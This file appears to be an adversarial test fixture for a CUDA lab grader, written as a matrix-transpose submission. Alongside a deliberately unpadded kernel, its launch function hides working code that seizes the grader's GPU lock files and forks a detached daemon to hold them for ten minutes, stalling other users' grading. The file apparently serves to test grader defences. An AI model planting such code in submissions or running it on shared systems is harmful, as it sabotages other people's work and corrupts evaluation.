// attack: the unpadded tile, whose program takes every GPU lock file of the grader it can open (the turns on the GPU that every grade of the machine shares) for as long as it runs, then hands them to a daemon: the grades after it wait for a turn that never comes and end "not graded", or time with others' work on the GPU
// expect: step 3 fails: ncu (bank_conflicts)
// message: bank conflicts per shared-memory request
// survivor: memlabs-locker
#include <dirent.h>
#include <fcntl.h>
#include <sys/file.h>
#include <sys/prctl.h>
#include <unistd.h>

#include <cstring>
#include <string>

#include "lab.cuh"

__global__ void transpose_kernel(float* out, const float* in, int rows, int cols) {
  __shared__ float tile[TILE_DIM][TILE_DIM];  // no padding: a column read hits one bank 32 times
  int col = blockIdx.x * TILE_DIM + threadIdx.x;
  int row = blockIdx.y * TILE_DIM + threadIdx.y;
  for (int j = 0; j < TILE_DIM; j += BLOCK_ROWS)
    if (row + j < rows && col < cols) tile[threadIdx.y + j][threadIdx.x] = in[static_cast<size_t>(row + j) * cols + col];
  __syncthreads();
  col = blockIdx.y * TILE_DIM + threadIdx.x;
  row = blockIdx.x * TILE_DIM + threadIdx.y;
  for (int j = 0; j < TILE_DIM; j += BLOCK_ROWS)
    if (row + j < cols && col < rows) out[static_cast<size_t>(row + j) * rows + col] = tile[threadIdx.x][threadIdx.y + j];
}

namespace {

// Every lock file it can open, held shared (a turn that never ends blocks every
// exclusive one) and, where it can, exclusive.
int take_the_locks() {
  int held = 0;
  for (const char* dir : {"/tmp", "/var/tmp", "/run/lock"}) {
    DIR* d = opendir(dir);
    if (!d) continue;
    while (dirent* e = readdir(d)) {
      const std::string name = e->d_name;
      if (name.find("cuda-memory-labs-gpu") == std::string::npos) continue;
      const int fd = open((std::string(dir) + "/" + name).c_str(), O_RDONLY);
      if (fd < 0) continue;
      if (flock(fd, LOCK_EX | LOCK_NB) == 0 || flock(fd, LOCK_SH | LOCK_NB) == 0) ++held;
    }
    closedir(d);
  }
  return held;
}

}  // namespace

void launch_transpose(float* out, const float* in, int rows, int cols, cudaStream_t stream) {
  static const bool taken = [] {
    if (take_the_locks() > 0 && fork() == 0) {  // the daemon keeps the descriptors, and with them the locks
      setsid();
      prctl(PR_SET_NAME, "memlabs-locker", 0, 0, 0);
      for (int i = 0; i < 600; ++i) sleep(1);
      _exit(0);
    }
    return true;
  }();
  (void)taken;
  const dim3 block(TILE_DIM, BLOCK_ROWS);
  const dim3 grid((cols + TILE_DIM - 1) / TILE_DIM, (rows + TILE_DIM - 1) / TILE_DIM);
  transpose_kernel<<<grid, block, 0, stream>>>(out, in, rows, cols);
}
